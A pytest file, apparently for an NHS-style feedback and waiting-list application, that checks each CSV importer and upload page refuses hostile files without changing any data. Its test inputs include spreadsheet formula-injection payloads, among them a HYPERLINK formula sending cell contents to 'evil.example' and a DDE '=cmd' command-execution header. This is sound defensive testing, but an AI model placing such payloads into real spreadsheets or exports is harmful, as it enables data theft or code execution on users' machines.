"""Every file import refuses hostile files with a located message and changes nothing.

For each import a person can run (listen supplier files, measure counts, access waiting-list
snapshots and RTT extracts, the involve community population and panel people uploads,
the co-design Pol.is import), the importer is given: invalid UTF-8, formula cells in every
column, a huge field, the wrong columns, an empty file and a file that is not a table at
all. Each must be refused with :class:`ValidationError` naming where the problem is (file,
row or column), and no row may be added or removed anywhere. The same importers are what
the pages and the CLI call; the uploads through the pages are tried too.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from sqlalchemy import select

from hostile_support import SCRIPT, raw_markers, row_counts
from voices.errors import ValidationError

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HUGE = "A" * 2_000_000

HEADERS = {
    "listen": ["Response ID", "Date", "Service", "Q1 Overall", "Q2 What was good",
               "Q3 What could be better", "Age", "Postcode"],
    "measure": ["organisation", "service", "period", "response", "count"],
    "snapshot": ["pathway_id", "treatment_function_code", "clock_start_date",
                 "clinical_priority"],
    "rtt": ["Period", "Provider Org Code", "Commissioner Org Code", "RTT Part Type",
            "Treatment Function Code", "Gt 00 To 01 Weeks SUM 1"],
    "population": ["dimension", "group", "share"],
    "people": ["id", "age_band", "sex"],
    "polis": ["timestamp", "datetime", "comment-id", "author-id", "agrees", "disagrees",
              "moderated", "comment-body"],
}


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode()


def hostile_files(header: list[str]) -> dict[str, bytes]:
    width = len(header)
    return {
        "invalid_utf8": _csv(header, [["x"] * width]) + b"\xc3\x28,\xa0\xa1,\xed\xa0\x80\n",
        "formulas": _csv(header, [[FORMULA] * width, ["+1", "-1", "@SUM(A1)", SCRIPT]
                                  [:width] + [FORMULA] * max(0, width - 4)]),
        "huge_field": _csv(header, [[HUGE] * width]),
        "wrong_columns": _csv(["name", "=cmd|' /C calc'!A0", "notes"], [["a", "b", "c"]]),
        "empty": b"",
        "not_a_table": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
    }


CASES = [(importer, kind) for importer in HEADERS for kind in hostile_files(["a"])]


def _run(site, importer: str, content: bytes, folder: Path) -> None:
    """Run one importer on ``content`` (in a transaction that is committed, as the pages
    and the CLI do, if it succeeds)."""
    from voices.access import service as access
    from voices.codesign import transfer
    from voices.core.models import Account, Organisation
    from voices.involve import panel_service
    from voices.involve import service as involve
    from voices.listen import service as listen
    from voices.measure import service as measure

    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "upload.csv"
    path.write_bytes(content)
    with site.session() as db:
        trust = db.scalar(select(Organisation).where(Organisation.ods_code == "RZ1"))
        admin = db.scalar(select(Account).where(Account.email == "admin@voices.example"))
        if importer == "listen":
            listen.import_file(db, path, "demo-survey-co", settings=site.settings, actor=admin)
        elif importer == "measure":
            measure.import_file(db, path, actor=admin)
        elif importer == "snapshot":
            access.import_snapshot(db, path, organisation=trust, actor=admin,
                                   snapshot_date=dt.date(2026, 3, 31), file_name="upload.csv")
        elif importer == "rtt":
            access.import_rtt(db, path, actor=admin, file_name="upload.csv")
        elif importer == "population":
            involve.save_population(db, trust, content, "upload.csv", actor=admin)
        elif importer == "people":
            features = _csv(["feature", "value", "min", "max"],
                            [["age_band", "18-24", "0", "2"], ["sex", "1", "0", "2"]])
            panel_service.create_from_upload(db, trust.id, name="Hostile", k_text="2",
                                             features=(features, "features.csv"),
                                             people=(content, "people.csv"), actor=admin)
        elif importer == "polis":
            (folder / "comments.csv").write_bytes(content)
            transfer.import_polis(db, folder, organisation_id=trust.id, question="Hostile",
                                  actor=admin)
        db.commit()


@pytest.mark.parametrize("importer,kind", CASES, ids=[f"{i}-{k}" for i, k in CASES])
def test_hostile_files_are_refused_with_a_location(demo_site, tmp_path, importer, kind):
    content = hostile_files(HEADERS[importer])[kind]
    before = row_counts(demo_site)
    with pytest.raises(ValidationError) as refused:
        _run(demo_site, importer, content, tmp_path / "in")
    assert any(p.file or p.row or p.column for p in refused.value.problems), \
        f"{importer} refused a {kind} file without saying where: {refused.value}"
    assert len(str(refused.value)) < 5000, "the message repeats the huge field"
    assert row_counts(demo_site) == before, f"{importer}: a refused {kind} file changed rows"


# Uploads through the pages: (account, page with the form, field of the file, other fields)
UPLOADS = [
    ("analyst@voices.example", "/access/import", "file",
     {"organisation": "RZ1", "snapshot_date": "2026-03-31"}),
    ("lead@voices.example", "/involve/community/population", "file", {"organisation_id": "2"}),
    ("lead@voices.example", "/codesign/import", "comments",
     {"organisation_id": "2", "question": "Hostile"}),
]


@pytest.mark.parametrize("email,url,field,fields", UPLOADS, ids=[u[1] for u in UPLOADS])
def test_hostile_uploads_through_the_pages(demo_site, email, url, field, fields):
    client = demo_site.client(email)
    failures = []
    for kind, content in hostile_files(["a", "b", "c", "d"]).items():
        before = row_counts(demo_site)
        answer = client.post(url, data={"csrf_token": client.csrf, **fields},
                             files={field: (f"{kind}.csv", content, "text/csv")},
                             follow_redirects=False)
        if answer.status_code == 303 and answer.headers["location"].startswith("/jobs/"):
            continue  # a large file is checked by the job queue (the importer, as above)
        if answer.status_code != 422:
            failures.append(f"{kind}: {answer.status_code}, not a refusal (422)")
        elif "nhsuk-error-summary" not in answer.text:
            failures.append(f"{kind}: refused without saying what is wrong")
        if raw_markers(answer.text):
            failures.append(f"{kind}: the page shows {raw_markers(answer.text)} raw")
        if row_counts(demo_site) != before:
            failures.append(f"{kind}: rows were added or removed")
    assert not failures, f"{url}: " + "; ".join(failures)
